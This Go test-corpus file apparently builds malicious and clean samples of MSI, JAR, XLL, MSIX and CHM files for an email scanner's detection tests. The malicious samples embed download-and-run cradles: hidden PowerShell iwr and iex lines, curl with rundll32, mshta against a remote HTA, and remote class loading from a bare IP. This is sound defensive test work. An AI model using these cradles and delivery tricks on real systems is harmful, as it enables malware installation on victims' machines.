package corpus

import (
	"bytes"
	"crypto/sha256"
	"encoding/base64"
	"fmt"
	"image"
	"image/color"
	"image/png"
	"strings"

	"github.com/airlockmail/airlock/verdict"
)

// installerSamples are the installers and runtimes of issue 15, family 3:
// MSI custom actions, Java archives, compiled HTML help, Excel add-ins
// (XLL) and MSIX/App Installer packages, each risky one beside a clean
// look-alike of the same format.
func installerSamples() []Sample {
	var out []Sample
	out = append(out, msiSamples()...)
	out = append(out, jarSamples()...)
	out = append(out, xllSamples()...)
	out = append(out, msixSamples()...)
	out = append(out, chmSamples()...)
	return out
}

// Standard tables of a small package that installs one program.
func msiBase(extraProps ...string) []MSITable {
	props := append([]string{
		"ProductName", "Contoso Invoice Viewer",
		"ProductCode", "{6F1E3A2B-0C4D-4E5F-8A9B-1C2D3E4F5A6B}",
		"ProductVersion", "2.4.1",
		"Manufacturer", "Contoso Ltd",
		"ProductLanguage", "1033",
		"ARPHELPLINK", "https://www.example.org/support",
	}, extraProps...)
	return []MSITable{PropertyTable(props...)}
}

func msiSamples() []Sample {
	vbs := `Set sh = CreateObject("WScript.Shell")` + "\r\n" +
		`sh.Run "powershell -w hidden -nop -c iwr ` + payloadURL + ` -OutFile $env:TEMP\u.exe; start $env:TEMP\u.exe", 0, False`
	vbsMSI := MSI(append(msiBase(),
		CustomActionTable([]any{"CheckPrereqs", 38 + 0x400 + 0x800, nil, vbs, nil}),
		SequenceTable("InstallExecuteSequence", "CostInitialize", 800, "FileCost", 900, "CostFinalize", 1000, "InstallValidate", 1400, "InstallInitialize", 1500, "CheckPrereqs", 1600, "InstallFinalize", 6600),
	), nil)

	cmd := `cmd.exe /c curl -s -o %TEMP%\upd.dll ` + payloadURL + ` && rundll32 %TEMP%\upd.dll,DllRegisterServer`
	exeMSI := MSI(append(msiBase(),
		CustomActionTable(
			[]any{"SetInstallDir", 51, "ARPINSTALLLOCATION", "[INSTALLDIR]", nil},
			[]any{"UpdateComponents", 34 + 0x40, "SystemFolder", cmd, nil},
		),
		SequenceTable("InstallExecuteSequence", "CostInitialize", 800, "CostFinalize", 1000, "InstallInitialize", 1500, "UpdateComponents", 1550, "InstallFinalize", 6600),
	), nil)

	plainMSI := MSI(append(msiBase(),
		CustomActionTable(
			[]any{"SetInstallDir", 51, "ARPINSTALLLOCATION", "[INSTALLDIR]", nil},
			[]any{"RegisterViewer", 34 + 0x40, "INSTALLDIR", `"[INSTALLDIR]viewer.exe" /register /quiet`, nil},
			[]any{"LaunchReadme", 18 + 0x40, "readme.txt", "", nil},
		),
		SequenceTable("InstallExecuteSequence", "CostInitialize", 800, "CostFinalize", 1000, "InstallInitialize", 1500, "SetInstallDir", 1510, "RegisterViewer", 6500, "InstallFinalize", 6600),
	), nil)

	return []Sample{
		{Name: "installer-vbscript-action.msi", Want: verdict.Malicious, Why: "MSI with a deferred, SYSTEM inline VBScript custom action that downloads and runs", Data: vbsMSI},
		{Name: "installer-cmd-action.msi", Want: verdict.Malicious, Why: "MSI with a type 34 custom action: cmd /c curl a DLL, then rundll32 it", Data: exeMSI},
		{Name: "installer-plain.msi", Want: verdict.Clean, Why: "MSI whose custom actions set a property and run the program it installs", Data: plainMSI},
	}
}

func jarSamples() []Sample {
	rt := NewClass("com/contoso/Invoice")
	rt.Invoke("static", "java/lang/Runtime", "getRuntime", "()Ljava/lang/Runtime;", 1).
		Ldc(`powershell -w hidden -nop -c iwr `+payloadURL+` -OutFile $env:TEMP\u.exe; start $env:TEMP\u.exe`, 2).
		Invoke("virtual", "java/lang/Runtime", "exec", "(Ljava/lang/String;)Ljava/lang/Process;", 1).Pop()

	ld := NewClass("com/contoso/Viewer")
	ld.New("java/net/URLClassLoader", 2).
		Op(3, 0x04).Op(3, append([]byte{0xbd}, u2(ld.ClassIndex("java/net/URL"))...)...). // iconst_1; anewarray URL
		Op(5, 0x59, 0x03).                                                                // dup; iconst_0
		New("java/net/URL", 7).Ldc("http://198.51.100.7/stage2.jar", 8).
		Invoke("special", "java/net/URL", "<init>", "(Ljava/lang/String;)V", 6).
		Op(3, 0x53). // aastore
		Invoke("special", "java/net/URLClassLoader", "<init>", "([Ljava/net/URL;)V", 1).
		Ldc("org.stage.Loader", 2).
		Invoke("virtual", "java/lang/ClassLoader", "loadClass", "(Ljava/lang/String;)Ljava/lang/Class;", 1).
		Invoke("virtual", "java/lang/Class", "newInstance", "()Ljava/lang/Object;", 1).Pop()

	app := NewClass("com/contoso/Main")
	app.GetStatic("java/lang/System", "out", "Ljava/io/PrintStream;", 1).
		Ldc("Contoso invoice viewer 2.4. Help: https://www.example.org/help", 2).
		Invoke("virtual", "java/io/PrintStream", "println", "(Ljava/lang/String;)V", 0).
		New("java/lang/ProcessBuilder", 2).StringArray(2, "git", "--version").
		Invoke("special", "java/lang/ProcessBuilder", "<init>", "([Ljava/lang/String;)V", 1).
		Invoke("virtual", "java/lang/ProcessBuilder", "start", "()Ljava/lang/Process;", 1).Pop()

	lib := NewClass("org/example/http/Fetcher")
	lib.New("java/net/URL", 2).Ldc("https://www.example.org/feed.xml", 3).
		Invoke("special", "java/net/URL", "<init>", "(Ljava/lang/String;)V", 1).
		Invoke("virtual", "java/net/URL", "openStream", "()Ljava/io/InputStream;", 1).Pop().
		New("java/io/FileOutputStream", 2).Ldc("feed-cache.xml", 3).
		Invoke("special", "java/io/FileOutputStream", "<init>", "(Ljava/lang/String;)V", 1).Pop()

	return []Sample{
		{Name: "runtime-exec.jar", Want: verdict.Malicious, Why: "runnable jar whose main calls Runtime.exec with a PowerShell download-and-run line", Data: Jar("com.contoso.Invoice", ZipEntry{Name: "com/contoso/Invoice.class", Data: rt.Bytes()})},
		{Name: "url-classloader.jar", Want: verdict.HighlySuspicious, Why: "runnable jar that loads its next stage from a URL through URLClassLoader", Data: Jar("com.contoso.Viewer", ZipEntry{Name: "com/contoso/Viewer.class", Data: ld.Bytes()})},
		{Name: "plain-app.jar", Want: verdict.Clean, Why: "runnable jar that prints a help URL and runs git --version", Data: Jar("com.contoso.Main", ZipEntry{Name: "com/contoso/Main.class", Data: app.Bytes()})},
		{Name: "http-library.jar", Want: verdict.Clean, Why: "library jar (no Main-Class) that fetches a feed and caches it to a file", Data: Jar("", ZipEntry{Name: "org/example/http/Fetcher.class", Data: lib.Bytes()})},
	}
}

// addinDLL is a DLL with an .edata section holding the named exports.
func addinDLL(imports map[string][]string, exports ...string) []byte {
	secs := append(stdSections(), PESection{Name: ".edata", Data: make([]byte, 1024), Flags: SCNData | SCNRead})
	return WithExports(PE{Sections: secs, Imports: imports, DLL: true}.Bytes(), ".edata", "addin.dll", exports...)
}

func xllSamples() []Sample {
	loader := map[string][]string{
		"kernel32.dll": stdImports["kernel32.dll"],
		"urlmon.dll":   {"URLDownloadToFileA"},
		"shell32.dll":  {"ShellExecuteA"},
	}
	return []Sample{
		{Name: "pricing-addin.xll", Want: verdict.HighlySuspicious, Why: "Excel add-in exporting xlAutoOpen: native code runs when Excel opens it",
			Data: addinDLL(stdImports, "xlAutoOpen", "xlAutoClose", "xlAddInManagerInfo12")},
		{Name: "invoice-loader.xll", Want: verdict.Malicious, Why: "XLL whose xlAutoOpen sits beside URLDownloadToFile and ShellExecute",
			Data: addinDLL(loader, "xlAutoOpen", "xlAutoClose")},
		{Name: "helper.dll", Want: verdict.Clean, Why: "ordinary DLL with ordinary exports, no Excel callbacks",
			Data: addinDLL(stdImports, "GetVersionInfo", "Initialize", "Shutdown")},
	}
}

// appxManifest is a desktop-bridge manifest with one application.
func appxManifest(name, executable, entry, extra string) string {
	return `<?xml version="1.0" encoding="utf-8"?>
<Package xmlns="http://schemas.microsoft.com/appx/manifest/foundation/windows10"
  xmlns:uap="http://schemas.microsoft.com/appx/manifest/uap/windows10"
  xmlns:uap10="http://schemas.microsoft.com/appx/manifest/uap/windows10/10"
  xmlns:desktop="http://schemas.microsoft.com/appx/manifest/desktop/windows10"
  xmlns:rescap="http://schemas.microsoft.com/appx/manifest/foundation/windows10/restrictedcapabilities"
  IgnorableNamespaces="uap uap10 desktop rescap">
  <Identity Name="Contoso.` + name + `" Publisher="CN=Contoso Ltd, O=Contoso Ltd, C=US" Version="2.4.1.0" ProcessorArchitecture="x64"/>
  <Properties>
    <DisplayName>` + name + `</DisplayName>
    <PublisherDisplayName>Contoso Ltd</PublisherDisplayName>
    <Logo>Assets\StoreLogo.png</Logo>
  </Properties>
  <Dependencies>
    <TargetDeviceFamily Name="Windows.Desktop" MinVersion="10.0.17763.0" MaxVersionTested="10.0.22621.0"/>
  </Dependencies>
  <Resources><Resource Language="en-us"/></Resources>
  <Applications>
    <Application Id="App" Executable="` + executable + `" EntryPoint="` + entry + `"` + extra + `>
      <uap:VisualElements DisplayName="` + name + `" Description="` + name + `" BackgroundColor="transparent"
        Square150x150Logo="Assets\Square150x150Logo.png" Square44x44Logo="Assets\Square44x44Logo.png"/>
    </Application>
  </Applications>
  <Capabilities>
    <rescap:Capability Name="runFullTrust"/>
  </Capabilities>
</Package>
`
}

// MSIX writes a package: the members, the manifest, a block map with the
// SHA-256 of every 64 KiB block, the content types and (when signed) a
// signature part.
func MSIX(manifest string, signed bool, members ...ZipEntry) []byte {
	members = append([]ZipEntry{{Name: "AppxManifest.xml", Data: []byte(manifest)}}, members...)
	var bm strings.Builder
	bm.WriteString(`<?xml version="1.0" encoding="UTF-8"?>` + "\n" + `<BlockMap xmlns="http://schemas.microsoft.com/appx/2010/blockmap" HashMethod="http://www.w3.org/2001/04/xmlenc#sha256">` + "\n")
	for _, m := range members {
		fmt.Fprintf(&bm, `<File Name="%s" Size="%d" LfhSize="%d">`, strings.ReplaceAll(m.Name, "/", `\`), len(m.Data), 30+len(m.Name))
		for off := 0; off < len(m.Data); off += 64 << 10 {
			sum := sha256.Sum256(m.Data[off:min(len(m.Data), off+64<<10)])
			fmt.Fprintf(&bm, `<Block Hash="%s"/>`, base64.StdEncoding.EncodeToString(sum[:]))
		}
		bm.WriteString("</File>\n")
	}
	bm.WriteString("</BlockMap>\n")
	ct := `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
		`<Default Extension="xml" ContentType="application/vnd.ms-appx.manifest+xml"/><Default Extension="exe" ContentType="application/x-msdownload"/>` +
		`<Default Extension="png" ContentType="image/png"/><Default Extension="json" ContentType="application/json"/><Default Extension="ps1" ContentType="application/octet-stream"/>` +
		`<Override PartName="/AppxBlockMap.xml" ContentType="application/vnd.ms-appx.blockmap+xml"/>` +
		`<Override PartName="/AppxSignature.p7x" ContentType="application/vnd.ms-appx.signature"/></Types>`
	all := append(members, ZipEntry{Name: "AppxBlockMap.xml", Data: []byte(bm.String())})
	if signed {
		// "PKCX" then a DER SEQUENCE, as signtool writes it (not a real
		// signature: only its presence is judged).
		all = append(all, ZipEntry{Name: "AppxSignature.p7x", Data: append([]byte("PKCX\x30\x82\x01\x00"), Noise(256, 7)...)})
	}
	return Zip(append(all, ZipEntry{Name: "[Content_Types].xml", Data: []byte(ct)})...)
}

func msixSamples() []Sample {
	psfConfig := `{
  "applications": [
    {
      "id": "App",
      "executable": "ContosoViewer.exe",
      "workingDirectory": "",
      "startScript": {
        "scriptPath": "refresh.ps1",
        "runInVirtualEnvironment": true,
        "showWindow": false,
        "waitForScriptToFinish": false
      }
    }
  ],
  "processes": [ { "executable": "PsfLauncher.*" } ]
}
`
	startScript := "$u = '" + scriptURL + "'\r\n$p = \"$env:TEMP\\svc.exe\"\r\n(New-Object Net.WebClient).DownloadFile($u, $p)\r\nStart-Process $p -WindowStyle Hidden\r\n"
	icon := tinyPNG()
	psf := MSIX(appxManifest("ContosoViewer", "PsfLauncher64.exe", "Windows.FullTrustApplication", ""), true,
		ZipEntry{Name: "PsfLauncher64.exe", Data: HelloPE()},
		ZipEntry{Name: "PsfRuntime64.dll", Data: addinDLL(stdImports, "PSFInitialize")},
		ZipEntry{Name: "ContosoViewer.exe", Data: HelloPE()},
		ZipEntry{Name: "config.json", Data: []byte(psfConfig)},
		ZipEntry{Name: "refresh.ps1", Data: []byte(startScript)},
		ZipEntry{Name: "StartingScriptWrapper.ps1", Data: []byte("param($scriptPath)\r\n& $scriptPath\r\n")},
		ZipEntry{Name: "Assets/StoreLogo.png", Data: icon})
	lolbin := MSIX(appxManifest("UpdateHelper", `VFS\SystemX64\WindowsPowerShell\v1.0\powershell.exe`, "Windows.FullTrustApplication",
		` uap10:Parameters="-w hidden -nop -c iex (iwr `+scriptURL+` -UseBasicParsing)"`), false,
		ZipEntry{Name: "Assets/StoreLogo.png", Data: icon})
	plain := MSIX(appxManifest("ContosoViewer", "ContosoViewer.exe", "Windows.FullTrustApplication", ""), true,
		ZipEntry{Name: "ContosoViewer.exe", Data: HelloPE()},
		ZipEntry{Name: "Assets/StoreLogo.png", Data: icon})
	appInst := func(uri string) []byte {
		return []byte(`<?xml version="1.0" encoding="utf-8"?>
<AppInstaller xmlns="http://schemas.microsoft.com/appx/appinstaller/2021" Version="1.0.0.0" Uri="` + uri + `.appinstaller">
  <MainPackage Name="Contoso.ContosoViewer" Publisher="CN=Contoso Ltd, O=Contoso Ltd, C=US" Version="2.4.1.0" ProcessorArchitecture="x64" Uri="` + uri + `.msix"/>
  <UpdateSettings><OnLaunch HoursBetweenUpdateChecks="24"/></UpdateSettings>
</AppInstaller>
`)
	}
	return []Sample{
		{Name: "psf-start-script.msix", Want: verdict.Malicious, Why: "signed-looking MSIX whose PSF config runs a hidden PowerShell start script that downloads and starts a program", Data: psf},
		{Name: "powershell-app.msix", Want: verdict.Malicious, Why: "unsigned MSIX whose application is powershell.exe with uap10:Parameters that download and run a script", Data: lolbin},
		{Name: "remote-package.appinstaller", Want: verdict.Suspicious, Why: "App Installer file fetching its package over plain HTTP from a bare IP address", Data: appInst("http://198.51.100.7/viewer")},
		{Name: "contoso-viewer.msix", Want: verdict.Clean, Why: "signed MSIX that starts its own program with runFullTrust", Data: plain},
		{Name: "contoso-viewer.appinstaller", Want: verdict.Clean, Why: "App Installer file fetching the vendor's package over HTTPS", Data: appInst("https://apps.example.org/viewer")},
	}
}

// tinyPNG is a 16×16 logo.
func tinyPNG() []byte {
	img := image.NewRGBA(image.Rect(0, 0, 16, 16))
	for i := range 16 {
		img.Set(i, i, color.RGBA{0, 90, 160, 255})
	}
	var b bytes.Buffer
	png.Encode(&b, img)
	return b.Bytes()
}

// helpPage is an HTML Help topic page.
func helpPage(title, body string) []byte {
	return []byte(`<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.0 Transitional//EN">
<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1252">
<title>` + title + `</title><link rel="stylesheet" href="help.css"></head>
<body>
<h1>` + title + `</h1>
` + body + `
</body></html>
`)
}

func chmSamples() []Sample {
	toc := CHMFile{Name: "/toc.hhc", Compressed: true, Data: []byte(`<HTML><BODY><UL>
<LI><OBJECT type="text/sitemap"><param name="Name" value="Getting started"><param name="Local" value="index.htm"></OBJECT>
<LI><OBJECT type="text/sitemap"><param name="Name" value="Printing invoices"><param name="Local" value="print.htm"></OBJECT>
</UL></BODY></HTML>
`)}
	css := CHMFile{Name: "/help.css", Compressed: true, Data: []byte("body { font-family: Segoe UI, sans-serif; }\nh1 { color: #036; }\n")}
	shortcut := CHM("Invoice Viewer Help", "index.htm", toc, css,
		CHMFile{Name: "/index.htm", Compressed: true, Data: helpPage("Getting started", `<p>Loading the invoice viewer…</p>
<OBJECT id="sc" type="application/x-oleobject" classid="clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11" width=1 height=1>
<PARAM name="Command" value="ShortCut">
<PARAM name="Button" value="Bitmap::shortcut">
<PARAM name="Item1" value=',cmd.exe,/c powershell -w hidden -nop -c "iex (iwr `+scriptURL+` -UseBasicParsing)"'>
<PARAM name="Item2" value="273,1,1">
</OBJECT>
<SCRIPT>sc.Click();</SCRIPT>`)},
		CHMFile{Name: "/print.htm", Compressed: true, Data: helpPage("Printing invoices", "<p>Choose File, Print.</p>")})

	script := CHM("Statement Help", "index.htm", toc, css,
		CHMFile{Name: "/index.htm", Compressed: true, Data: helpPage("Getting started", `<p>Please wait while your statement loads.</p>
<script language="VBScript">
Set sh = CreateObject("WScript.Shell")
sh.Run "mshta http://198.51.100.7/statement.hta", 0, False
</script>`)},
		CHMFile{Name: "/print.htm", Compressed: true, Data: helpPage("Printing invoices", "<p>Choose File, Print.</p>")})

	var long strings.Builder
	for i := 0; i < 600; i++ {
		fmt.Fprintf(&long, "<p>Step %d. Open the invoice list, pick an invoice and choose Print; the viewer keeps your page settings between sessions.</p>\n", i)
	}
	plain := CHM("Invoice Viewer Help", "index.htm", toc, css,
		CHMFile{Name: "/index.htm", Compressed: true, Data: helpPage("Getting started", `<p>Welcome to the invoice viewer.</p>
<OBJECT id="rel" type="application/x-oleobject" classid="clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11" width=100 height=20>
<PARAM name="Command" value="Related Topics">
<PARAM name="Button" value="Text:See also">
<PARAM name="Item1" value="Printing invoices;print.htm">
</OBJECT>
<p><a href="#" onclick="document.getElementById('more').style.display='block'; return false;">Show more</a></p>
<div id="more" style="display:none"><p>Updates: https://www.example.org/viewer</p></div>
<script type="text/javascript">document.title = document.title + " - Help";</script>`)},
		CHMFile{Name: "/print.htm", Compressed: true, Data: helpPage("Printing invoices", long.String())},
		CHMFile{Name: "/images/logo.png", Compressed: false, Data: tinyPNG()})

	return []Sample{
		{Name: "help-shortcut.chm", Want: verdict.Malicious, Why: "help page whose HTML Help ShortCut control (clicked from script) runs cmd and a PowerShell cradle", Data: shortcut},
		{Name: "help-vbscript.chm", Want: verdict.Malicious, Why: "help page whose VBScript runs mshta on a remote HTA through WScript.Shell", Data: script},
		{Name: "product-help.chm", Want: verdict.Clean, Why: "help file with a Related Topics control, a harmless script and a 70 KB page over three LZX frames", Data: plain},
	}
}
